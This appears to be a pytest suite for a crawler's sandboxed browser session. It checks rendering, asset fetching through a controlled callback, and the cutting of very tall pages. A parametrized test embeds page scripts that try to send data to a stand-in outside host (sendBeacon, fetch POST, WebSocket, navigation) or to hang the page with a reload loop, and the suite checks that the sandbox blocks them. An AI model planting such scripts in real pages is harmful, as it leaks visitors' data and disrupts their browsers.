"""A session shows what a visitor would see, and asks for nothing but through us."""

import asyncio

import pytest

from crawler.browser import Asset, Seen, Session

pytestmark = pytest.mark.browser
URL = "http://city.example/"
MENU = """<!doctype html><title>Town</title><nav id="menu"></nav><script src="/menu.js"></script>"""
SCRIPT = b"document.getElementById('menu').innerHTML = '<a href=\"/pay\">Pay</a>'"


@pytest.fixture(scope="module")
def path(found_browser):
    return found_browser.path


def visit(path, html, assets=None):
    """What was seen, and what was asked for."""
    asked = []

    async def fetch(url, kind):
        asked.append((url, kind))
        if url not in (assets or {}):
            raise PermissionError(url)
        return assets[url]

    async def run():
        async with Session(path, "losi/test") as session:
            return await session.visit(URL, Asset(200, "text/html; charset=utf-8", html.encode()), fetch)

    return asyncio.run(run()), asked


def test_it_works(path):
    script = Asset(200, "text/javascript", SCRIPT)
    seen, asked = visit(path, MENU, {"http://city.example/menu.js": script})
    assert isinstance(seen, Seen)
    assert '<a href="/pay">Pay</a>' in seen.html
    assert seen.wide.startswith(b"\x89PNG")
    assert seen.phone.startswith(b"\x89PNG")
    assert asked == [("http://city.example/menu.js", "script")]
    assert seen.assets == 1


def test_what_is_refused_does_not_load(path):
    seen, asked = visit(path, MENU)
    assert "/pay" not in seen.html
    assert len(asked) == 1


@pytest.mark.parametrize(
    "script",
    [
        "navigator.sendBeacon('http://elsewhere.example/', 'x')",
        "fetch('http://elsewhere.example/', {method: 'POST', body: 'x'})",
        "location = 'http://elsewhere.example/'",
        "new WebSocket('ws://elsewhere.example/')",
        "open('http://elsewhere.example/')",
        "alert('stay'); print()",
        "setInterval(() => { location.reload() }, 1)",
    ],
)
def test_nothing_leaves_and_it_ends(path, script):
    seen, asked = visit(path, f"<!doctype html><title>Trap</title><p>Here</p><script>{script}</script>")
    assert asked == []
    assert seen.wide


def test_a_page_without_end_is_cut(path):
    seen, _ = visit(path, '<!doctype html><title>Tall</title><div style="height: 100000px">tall</div>')
    assert seen.wide
    assert int.from_bytes(seen.wide[20:24]) == 8000
